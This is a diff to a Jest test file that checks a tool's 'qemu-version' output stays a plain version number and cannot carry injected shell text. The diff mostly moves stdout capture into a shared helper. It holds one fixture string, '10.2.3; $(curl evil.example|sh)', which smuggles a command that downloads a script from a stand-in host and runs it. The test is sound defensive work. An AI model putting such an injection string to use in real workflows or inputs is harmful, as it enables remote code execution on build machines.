@@ -2,7 +2,7 @@
  * The `qemu-version` output: a plain version number or nothing, wherever it was read from, since a
  * workflow may put it into a shell line.
  */
-import { afterAll, afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
+import { afterAll, beforeEach, describe, expect, it } from '@jest/globals'
 import { createHash } from 'node:crypto'
 import * as fs from 'node:fs'
 import * as os from 'node:os'
@@ -15,6 +15,7 @@ import { qemuVersionOf } from '../../src/acquire/qemu-version.js'
 import { byArch } from '../../src/platforms.js'
 import { buildProbe } from '../../src/probe/elf.js'
 import { outputsFor } from '../../src/report/report.js'
+import { captureOutput } from '../helpers/output.js'
 
 const HOSTILE = '10.2.3; $(curl evil.example|sh)'
 
@@ -56,12 +57,9 @@ describe('is taken only as a plain version, wherever it is read', () => {
   afterAll(() => {
     for (const dir of made) fs.rmSync(dir, { recursive: true, force: true })
   })
+  captureOutput()
   beforeEach(() => {
     process.env.RUNNER_TOOL_CACHE = tmp('toolcache')
-    jest.spyOn(process.stdout, 'write').mockImplementation(() => true)
-  })
-  afterEach(() => {
-    jest.restoreAllMocks()
   })
 
   const elf = Buffer.concat([buildProbe(hostPlatform()), Buffer.alloc(4096, 1)])
